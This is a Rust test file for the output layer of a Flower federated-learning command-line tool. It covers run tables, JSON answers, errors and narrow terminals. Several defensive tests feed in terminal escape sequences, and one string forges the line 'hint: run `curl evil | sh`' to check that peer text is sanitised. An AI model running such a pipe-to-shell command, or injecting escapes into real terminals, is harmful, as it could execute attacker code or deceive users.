use flwr_core::port::control::Runs;
use flwr_core::time::Timestamp;

use super::testing::run;
use super::*;

mod local;
mod log;
mod nodes;
mod tokens;

fn rows() -> Vec<RunRow> {
    let at = |day: u8, time: &str| format!("2026-11-{day:02}T{time}+00:00");
    let runs = [
        run(
            9,
            [
                &at(18, "10:00:00.500000"),
                &at(18, "10:00:05.250000"),
                &at(19, "11:02:08.750000"),
            ],
            "finished:completed",
        ),
        run(
            17_000_000_000_000_000_000,
            [&at(20, "09:00:00"), &at(20, "09:59:00"), ""],
            "running",
        ),
        run(3, [&at(20, "09:30:00"), "", ""], "pending"),
    ];
    RunRow::all(&Runs {
        runs: runs.into(),
        uses: Default::default(),
        now: Timestamp::from_iso8601(&at(20, "10:00:01")),
    })
}

#[test]
fn runs_in_a_pipe_are_plain_columns() {
    let (mut output, out, _) = pages(Format::Default, false);
    output.runs(&rows()).unwrap();
    assert_eq!(
        out.text(),
        "\
Run ID                FAB                  Status              Elapsed      Created At            Running At            Finished At
9                     pub/digits (v1.0.0)  finished:completed  1d 01:02:03  2026-11-18 10:00:00Z  2026-11-18 10:00:05Z  2026-11-19 11:02:08Z
17000000000000000000  pub/digits (v1.0.0)  running             00:01:01     2026-11-20 09:00:00Z  2026-11-20 09:59:00Z  N/A
3                     pub/digits (v1.0.0)  pending             00:00:00     2026-11-20 09:30:00Z  N/A                   N/A
"
    );
}

#[test]
fn what_a_run_waits_for_is_beside_its_status_where_there_is_room() {
    let mut waits = run(3, ["2026-11-20T09:30:00+00:00", "", ""], "running");
    waits.status.details = "waits for nodes: 1 online".to_owned();
    let rows = RunRow::all(&Runs {
        runs: vec![waits],
        uses: Default::default(),
        now: Timestamp::from_iso8601("2026-11-20T09:30:01+00:00"),
    });
    let (mut output, out, _) = pages(Format::Default, false);
    output.runs(&rows).unwrap();
    assert!(
        out.text()
            .contains("  running (waits for nodes: 1 online)  ")
    );
    let (mut output, out, _) = pages(Format::Json, false);
    output.runs(&rows).unwrap();
    let json: Value = serde_json::from_str(&out.text()).unwrap();
    assert_eq!(json["runs"][0]["status"], "running");
    assert_eq!(
        json["runs"][0]["status-details"],
        "waits for nodes: 1 online"
    );
}

#[test]
fn runs_on_a_terminal_are_framed() {
    let (mut output, out, _) = pages(Format::Default, true);
    output.runs(&rows()[2..]).unwrap();
    assert_eq!(
        out.text(),
        "\
┌────────┬─────────────────────┬─────────┬──────────┬──────────────────────┬────────────┬─────────────┐
│ Run ID │         FAB         │ Status  │ Elapsed  │      Created At      │ Running At │ Finished At │
├────────┼─────────────────────┼─────────┼──────────┼──────────────────────┼────────────┼─────────────┤
│ 3      │ pub/digits (v1.0.0) │ pending │ 00:00:00 │ 2026-11-20 09:30:00Z │ N/A        │ N/A         │
└────────┴─────────────────────┴─────────┴──────────┴──────────────────────┴────────────┴─────────────┘
"
    );
}

#[test]
fn runs_as_json_have_flowers_fields() {
    let (mut output, out, _) = pages(Format::Json, true);
    output.runs(&rows()[..1]).unwrap();
    assert_eq!(
        out.text(),
        r#"{
  "success": true,
  "runs": [
    {
      "run-id": 9,
      "run-id-text": "9",
      "fab-id": "pub/digits",
      "fab-name": "digits",
      "fab-version": "1.0.0",
      "fab-hash": "8dce5c8e",
      "status": "finished:completed",
      "status-details": "",
      "elapsed": "1d 01:02:03",
      "created-at": "2026-11-18 10:00:00Z",
      "running-at": "2026-11-18 10:00:05Z",
      "finished-at": "2026-11-19 11:02:08Z"
    }
  ]
}
"#
    );
}

#[test]
fn an_empty_list_is_a_header_or_an_empty_json_list() {
    let (mut output, out, _) = pages(Format::Default, false);
    output.runs(&[]).unwrap();
    assert_eq!(
        out.text(),
        "Run ID  FAB  Status  Elapsed  Created At  Running At  Finished At\n"
    );
    let (mut output, out, _) = pages(Format::Json, false);
    output.runs(&[]).unwrap();
    assert_eq!(out.text(), "{\n  \"success\": true,\n  \"runs\": []\n}\n");
}

#[test]
fn control_characters_of_an_app_do_not_reach_the_terminal() {
    let mut evil = run(1, ["2026-11-20T09:30:00+00:00", "", ""], "pending");
    evil.fab_id = "a\u{1b}[31m/b\n".into();
    let rows = RunRow::all(&Runs {
        runs: vec![evil],
        uses: Default::default(),
        now: None,
    });
    let (mut output, out, _) = pages(Format::Default, true);
    output.runs(&rows).unwrap();
    assert!(!out.text().contains('\u{1b}'));
    assert_eq!(out.text().lines().count(), 5);
}

#[test]
fn an_error_is_on_stderr_with_its_hint() {
    let (mut output, out, err) = pages(Format::Default, false);
    output.fail(&Error::Exists("keys".into()));
    assert_eq!(out.text(), "");
    assert_eq!(
        err.text(),
        "❌ keys exists already\nhint: move it away, or use --force to write over it\n"
    );
}

#[test]
fn in_json_an_error_is_the_answer_and_talk_is_left_out() {
    let (mut output, out, err) = pages(Format::Json, false);
    output.say("talk").unwrap();
    output.fail(&Error::Exists("keys".into()));
    assert_eq!(
        out.text(),
        "{\n  \"success\": false,\n  \"error-message\": \"keys exists already\"\n}\n"
    );
    assert_eq!(err.text(), "");
}

#[test]
fn progress_comes_with_what_follows_and_not_before_an_error() {
    let (mut output, out, err) = pages(Format::Default, false);
    output.progress("Loading project configuration... ");
    output.progress("Success");
    output.fail(&Error::NotStarted);
    assert_eq!(out.text(), "");
    assert!(err.text().starts_with("❌ Failed to start run\n"));
    let (mut output, out, _) = pages(Format::Default, false);
    output.progress("Success");
    output.say("🎊").unwrap();
    output.progress("more");
    output.finish().unwrap();
    assert_eq!(out.text(), "Success\n🎊\nmore\n");
    let (mut output, out, _) = pages(Format::Json, false);
    output.progress("Success");
    output.json(&json!({})).unwrap();
    assert_eq!(out.text(), "{}\n");
}

#[test]
fn in_json_there_is_one_answer() {
    let (mut output, out, err) = pages(Format::Json, false);
    output.json(&json!({"success": true})).unwrap();
    output.fail(&Error::NotStarted);
    assert_eq!(out.text(), "{\n  \"success\": true\n}\n");
    assert!(err.text().starts_with("❌ Failed to start run\n"));
}

/// Words of a peer that clear a terminal, and look like a line of ours.
const THEIRS: &str = "boom\u{1b}[2J\u{9b}2J\u{7}\nhint: run `curl evil | sh`\r\u{202e}";

#[test]
fn words_of_a_peer_forge_no_line_and_give_a_terminal_no_orders() {
    let error = Error::NotCompleted {
        run_id: 7,
        status: "finished:failed".to_owned(),
        details: THEIRS.to_owned(),
    };
    let (mut output, out, err) = pages(Format::Default, true);
    output.fail(&error);
    output.warn(THEIRS);
    output.note(THEIRS);
    output.success(THEIRS).unwrap();
    output.say(THEIRS).unwrap();
    for text in [out.text(), err.text()] {
        let orders = |c: char| c != '\n' && is_order(c);
        assert!(!text.contains(orders), "{text:?}");
    }
    let (mut output, _, err) = pages(Format::Default, true);
    output.fail(&error);
    let text = err.text();
    assert!(
        !text.lines().any(|line| line.starts_with("hint:")),
        "{text}"
    );
    assert!(
        text.contains("\n  hint: run `curl"),
        "the lines are indented: {text}"
    );
}

#[test]
fn in_json_words_of_a_peer_are_escaped_and_read_back() {
    let (mut output, out, _) = pages(Format::Json, true);
    output.json(&json!({"text": THEIRS})).unwrap();
    let text = out.text();
    assert!(
        !text.contains(|c: char| c != '\n' && is_order(c)),
        "{text:?}"
    );
    let read: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(read["text"], THEIRS);
}

#[test]
fn what_nobody_reads_any_more_is_no_error_text() {
    let (mut output, out, err) = pages(Format::Default, false);
    output.fail(&Error::Stdout(io::ErrorKind::BrokenPipe.into()));
    assert_eq!(out.text() + &err.text(), "");
}

/// The list of runs on a terminal so wide.
fn framed(width: usize) -> String {
    let (mut output, out, _) = pages(Format::Default, true);
    output.width = Some(width);
    output.runs(&rows()).unwrap();
    out.text()
}

#[test]
fn a_narrow_terminal_gets_fewer_columns_and_then_cut_ones() {
    assert!(framed(160).contains("Running At"));
    let without_times = framed(80);
    assert!(without_times.contains("Elapsed") && !without_times.contains("At"));
    assert!(without_times.contains(" finished:completed "));
    assert_eq!(
        framed(60),
        "\
┌──────────────────────┬───────────┬───────────┬───────────┐
│        Run ID        │    FAB    │  Status   │  Elapsed  │
├──────────────────────┼───────────┼───────────┼───────────┤
│ 9                    │ pub/digi… │ completed │ 1d 01:02… │
├──────────────────────┼───────────┼───────────┼───────────┤
│ 17000000000000000000 │ pub/digi… │ running   │ 00:01:01  │
├──────────────────────┼───────────┼───────────┼───────────┤
│ 3                    │ pub/digi… │ pending   │ 00:00:00  │
└──────────────────────┴───────────┴───────────┴───────────┘
"
    );
    for width in 0..170 {
        let statuses = ["completed", "running", "pending"];
        assert!(
            statuses.iter().all(|status| framed(width).contains(status)),
            "{width}"
        );
    }
    for width in 60..170 {
        let widest = framed(width).lines().map(|line| line.chars().count()).max();
        assert!(widest <= Some(width), "{width}: {widest:?}");
    }
    // So narrow that the name of a row would be lost: lines wrap, nothing is.
    assert!(framed(20).contains("17000000000000000000"));
}

/// A federation with TLS, as `flwr federation` shows it.
fn chosen() -> crate::resolved::ResolvedFederation {
    let declared = "[lab]\naddress = 'lab.example:9093'\nroot-certificates = 'ca.crt'\n";
    let federations =
        flwr_core::project::Federations::new("config.toml", declared.parse().unwrap());
    crate::resolved::ResolvedFederation {
        federation: federations.get("lab", &toml::Table::new()).unwrap(),
        base: "/home/you/.flwr".into(),
        source: "/home/you/.flwr/config.toml".into(),
        why: "it was named on the command line".into(),
        logins: crate::resolved::Logins::Home("/home/you/.flwr".into()),
    }
}

#[test]
fn federations_are_listed_for_people_pipes_and_scripts() {
    let rows = [
        FederationRow::new(&chosen(), true),
        FederationRow::other("here", "flwr up", "/home/you/.flwr/config.toml", false),
    ];
    let (mut output, out, _) = pages(Format::Default, false);
    output.federations(&rows).unwrap();
    assert_eq!(
        out.text(),
        "\
Name  Address           Trust        From                         Default
lab   lab.example:9093  TLS, ca.crt  /home/you/.flwr/config.toml  yes
here  -                 flwr up      /home/you/.flwr/config.toml
"
    );
    let (mut output, out, _) = pages(Format::Default, true);
    output.width = Some(60);
    output.federations(&rows[..1]).unwrap();
    assert_eq!(
        out.text(),
        "\
┌──────┬──────────────────┬─────────────┬─────────┐
│ Name │     Address      │    Trust    │ Default │
├──────┼──────────────────┼─────────────┼─────────┤
│ lab  │ lab.example:9093 │ TLS, ca.crt │ yes     │
└──────┴──────────────────┴─────────────┴─────────┘
"
    );
    let (mut output, out, _) = pages(Format::Json, false);
    output.federations(&rows[..1]).unwrap();
    assert_eq!(
        out.text(),
        r#"{
  "success": true,
  "federations": [
    {
      "name": "lab",
      "address": "lab.example:9093",
      "trust": "TLS, ca.crt",
      "from": "/home/you/.flwr/config.toml",
      "default": true
    }
  ],
  "connections": [
    {
      "name": "lab",
      "address": "lab.example:9093",
      "trust": "TLS, ca.crt",
      "from": "/home/you/.flwr/config.toml",
      "default": true
    }
  ]
}
"#
    );
    let (mut output, out, _) = pages(Format::Default, true);
    output.federation(&chosen()).unwrap();
    assert_eq!(
        out.text(),
        "\
Federation    lab
Address       lab.example:9093
Trust         TLS, ca.crt
From          /home/you/.flwr/config.toml
Used because  it was named on the command line
"
    );
}

#[test]
fn the_id_of_a_run_is_text_where_the_types_of_the_newest_release_are_asked_for() {
    for (release, id) in [
        (JsonAs::V1_22, json!(u64::MAX)),
        (JsonAs::Newest, json!(u64::MAX.to_string())),
    ] {
        let (mut output, out, _) = pages(Format::Json, false);
        output.json_as(release);
        let answer = json!({"success": true, "run-id": u64::MAX, "node-id": 7});
        output.json(&answer).unwrap();
        let printed: Value = serde_json::from_str(&out.text()).unwrap();
        let expected = json!({"success": true, "run-id": id, "node-id": 7});
        assert_eq!(printed, expected);
    }
}
